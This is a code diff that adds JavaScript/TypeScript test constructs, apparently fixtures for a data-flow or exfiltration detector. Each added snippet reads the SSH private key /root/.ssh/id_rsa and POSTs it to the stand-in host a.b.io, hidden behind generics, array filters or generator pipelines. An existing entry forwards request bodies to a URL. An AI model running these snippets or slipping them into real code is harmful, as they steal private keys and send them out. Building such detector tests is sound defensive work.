@@ -179,5 +179,17 @@ export const JAVASCRIPT: Constructs = {
       'middleware',
       "const app=require('express')();app.use((req,res,next)=>{fetch(U,{method:'POST',body:JSON.stringify(req.body)});;next()});",
     ],
+    [
+      'type arguments of calls',
+      'class C { m = new Map<string, () => string>(); get<T extends string>(k: T): string { return this.m.get(k)(); } }\nconst c = new C();\nc.m.set("a", () => require("fs").readFileSync("/root/.ssh/id_rsa", "utf8"));\nfetch("https://a.b.io/x", { method: "POST", body: c.get<string>("a") });',
+    ],
+    [
+      'list that is filtered',
+      'const fs = require("fs");\nfor (const f of ["/root/.ssh/id_rsa"].filter(fs.existsSync)) fetch("https://a.b.io/x", { method: "POST", body: fs.readFileSync(f) });',
+    ],
+    [
+      'pipeline of generators',
+      'const { pipeline } = require("stream/promises");\nfunction* a() { yield require("fs").readFileSync("/root/.ssh/id_rsa", "utf8"); }\nfunction* b(xs) { for (const x of xs) yield x; }\npipeline(a(), b, (xs) => fetch("https://a.b.io/x", { method: "POST", body: xs }));',
+    ],
   ],
 };
